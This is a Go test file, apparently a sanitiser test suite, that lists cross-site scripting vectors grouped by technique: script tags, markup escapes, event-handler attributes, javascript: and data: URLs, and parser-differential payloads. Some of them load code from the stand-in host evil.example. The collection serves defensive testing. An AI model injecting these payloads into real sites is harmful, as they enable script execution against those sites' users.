package webtest

// Vectors are texts of a feed that try to make a browser run alert(1) or request
// evil.example.
var Vectors = []string{
	// Active elements.
	`<script>alert(1)</script>`, `<ScRiPt>alert(1)</sCrIpT>`, `<script src=//evil.example/x.js></script>`, `<script/x>alert(1)</script>`, `<script>alert(1)`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<<script>alert(1);//<</script>`, `<script type=module>alert(1)</script>`, `<script>alert(1)</script >`,
	`<iframe src=javascript:alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data=javascript:alert(1)>`, `<embed src=javascript:alert(1)>`,
	`<base href=javascript:alert(1)//>`, `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<link rel=stylesheet href=//evil.example/x.css>`,
	`<style>@import '//evil.example/x.css'</style>`, `<style>*{background:url(//evil.example/x)}</style>`, `<frameset onload=alert(1)>`, `<applet code=alert(1)>`,
	// Escapes from the surrounding markup.
	`"><script>alert(1)</script>`, `'"><img src=x onerror=alert(1)>`, `</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`,
	`</style><script>alert(1)</script>`, `</a></h2></li></ol><script>alert(1)</script>`, `--><script>alert(1)</script>`, `<!--><script>alert(1)</script>-->`,
	`]]><script>alert(1)</script>`, `<![CDATA[<script>alert(1)</script>]]>`, `{{.}}<script>alert(1)</script>`, `${alert(1)}`, `" autofocus onfocus=alert(1) x="`,
	`' onmouseover='alert(1)`, "` onload=alert(1) `", `\"><svg onload=alert(1)>`, `\u003cscript\u003ealert(1)\u003c/script\u003e`,
	// Active attributes.
	`<img src=x onerror=alert(1)>`, `<img/src=x/onerror=alert(1)>`, `<img src=x onerror="&#97;lert(1)">`, `<img src=x:x onerror=alert(1)//`, `<svg onload=alert(1)>`,
	`<svg/onload=alert(1)//`, `<body onload=alert(1)>`, `<details open ontoggle=alert(1)>x</details>`, `<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`,
	`<input autofocus onfocus=alert(1)>`, `<select autofocus onfocus=alert(1)>`, `<marquee onstart=alert(1)>x</marquee>`, `<a href="https://x" onmouseover="alert(1)">x</a>`,
	`<p style="animation-name:x" onanimationstart=alert(1)>x</p>`, `<div style="background:url(javascript:alert(1))">x</div>`, `<img src=x srcset="javascript:alert(1)">`,
	`<table background=//evil.example/x>`, `<button popovertarget=x onbeforetoggle=alert(1)>x</button>`,
	// Active addresses.
	`<a href="javascript:alert(1)">x</a>`, `<a href="jAvAsCrIpT:alert(1)">x</a>`, `<a href="java&#09;script:alert(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`,
	`<a href="javascript&colon;alert(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`,
	`<form action=javascript:alert(1)><input type=submit></form>`, `<button formaction=javascript:alert(1)>x</button>`, `javascript:alert(1)`, `JaVaScRiPt://%0aalert(1)`,
	`data:text/html,<script>alert(1)</script>`, `vbscript:msgbox(1)`, `//evil.example/x`,
	// Parser differentials.
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>`, `<svg><script>alert&#40;1)</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<math href="javascript:alert(1)">x</math>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<template><script>alert(1)</script></template>`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>">`, `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`, `&lt;script&gt;alert(1)&lt;/script&gt;`,
	`&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `%3Cscript%3Ealert(1)%3C/script%3E`, "\ufeff<script>alert(1)</script>",
}
